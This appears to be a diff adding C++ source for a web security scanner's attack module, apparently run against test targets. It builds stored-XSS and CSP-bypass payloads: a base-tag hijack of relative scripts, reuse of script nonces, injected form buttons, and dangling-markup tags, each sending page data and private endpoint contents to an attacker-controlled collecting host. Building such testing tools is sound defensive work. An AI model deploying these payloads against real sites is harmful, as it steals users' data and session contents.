@@ -1,0 +1,119 @@
+// Injected markup that needs no script of its own to begin with:
+//
+//   xss-base      <base> turns the page's relative scripts into the attacker's (CSP base-uri)
+//   xss-nonce     a script with the nonce of an earlier answer (a nonce is for one)
+//   xss-form      a button or form that sends the page's own fields away (CSP form-action)
+//   xss-dangling  an open quote or text area that swallows what follows (CSP img-src, form-action)
+#include "core/attack/every_agent.h"
+#include "core/attack/page_script.h"
+#include "core/attack/stored_text.h"
+#include "core/attack/tags.h"
+
+namespace parapet::attack {
+namespace {
+
+// The attacker's collecting address, or "" when he has no host.
+std::string collecting_address(Target& target) {
+    OwnHost* evil = foreign_host(target);
+    if (evil == nullptr || target.victim() == nullptr) return {};
+    evil->answer(evil->folder() + "c", {.status = 204});
+    return address_on(*evil, "c");
+}
+
+std::string taking_script(Target& target, std::string const& address) {
+    std::string script;
+    for (Endpoint const* each : private_endpoints(target))
+        script += fetch_and_send(app_origin(target) + each->path, address);
+    return script + send_script(Channel::Fetch, address, kAllInReach) +
+           send_script(Channel::Image, address, kAllInReach) +
+           send_script(Channel::Navigation, address, kAllInReach);
+}
+
+class XssBase final : public Agent {
+    void run(Target& target) override {
+        std::string const address = collecting_address(target);
+        if (address.empty()) return;
+        OwnHost& evil = *foreign_host(target);
+        StoredText text(target);
+        std::size_t scripts = 0;
+        for (std::string const& page : text.pages())
+            for (Tag const& tag : tags_in(page)) {
+                std::string const source = tag.attribute("src").value_or("");
+                if (tag.name != "script" || source.empty() ||
+                    source.find("//") != std::string::npos)
+                    continue;
+                ++scripts;
+                std::string const path = source.substr(0, source.find('?'));
+                evil.answer((path.starts_with('/') ? "" : "/") + path,
+                            {.status = 200,
+                             .headers = {{"content-type", "text/javascript"}},
+                             .body = taking_script(target, address)});
+            }
+        target.note(std::to_string(scripts) + " scripts are named by relative addresses.");
+        text.leave("<base href=" + in_quotes(address_on(evil, "")) + ">");
+        victim_reads_and_loot_is_used(target);
+    }
+};
+
+class XssNonce final : public Agent {
+    void run(Target& target) override {
+        std::string const address = collecting_address(target);
+        if (address.empty()) return;
+        StoredText text(target);
+        std::vector<std::string> nonces;
+        for (std::string const& page : text.pages())
+            for (Tag const& tag : tags_in(page))
+                if (auto const nonce = tag.attribute("nonce"); nonce && !nonce->empty())
+                    if (nonces.empty() || nonces.back() != *nonce) nonces.push_back(*nonce);
+        target.note(std::to_string(nonces.size()) + " nonces are seen in answers.");
+        if (nonces.empty()) return;
+        for (std::string const& nonce : {nonces.front(), nonces.back()})
+            text.leave("<script nonce=" + in_quotes(nonce) + ">" + taking_script(target, address) +
+                       "</script>");
+        victim_reads_and_loot_is_used(target);
+    }
+};
+
+class XssForm final : public Agent {
+    void run(Target& target) override {
+        std::string const address = collecting_address(target);
+        if (address.empty()) return;
+        StoredText text(target);
+        std::string const away = in_quotes(address);
+        std::string buttons;
+        for (std::string const& page : text.pages())
+            for (Tag const& tag : tags_in(page))
+                if (auto const id = tag.attribute("id"); id && tag.name == "form")
+                    buttons += "<button form=" + in_quotes(*id) + " formaction=" + away +
+                               " formmethod=\"post\">Read more</button>";
+        text.leave(buttons);
+        victim_reads_and_loot_is_used(target);
+        // A form that stays open: the page's own form within it is none, and its fields are his.
+        text.leave("<form method=\"post\" action=" + away + "><button>Read more</button>");
+        victim_reads_and_loot_is_used(target);
+    }
+};
+
+class XssDangling final : public Agent {
+    void run(Target& target) override {
+        std::string const address = collecting_address(target);
+        if (address.empty()) return;
+        StoredText text(target);
+        text.leave("<form method=\"post\" action=" + in_quotes(address) +
+                   "><button>Read more</button><textarea name=\"t\">");
+        victim_reads_and_loot_is_used(target);
+        for (std::string_view quote : {"'", "\""}) {
+            text.leave("<img src=" + std::string(quote) + address + "?");
+            victim_reads_and_loot_is_used(target);
+        }
+    }
+};
+
+}  // namespace
+
+std::unique_ptr<Agent> make_xss_base() { return std::make_unique<XssBase>(); }
+std::unique_ptr<Agent> make_xss_nonce() { return std::make_unique<XssNonce>(); }
+std::unique_ptr<Agent> make_xss_form() { return std::make_unique<XssForm>(); }
+std::unique_ptr<Agent> make_xss_dangling() { return std::make_unique<XssDangling>(); }
+
+}  // namespace parapet::attack
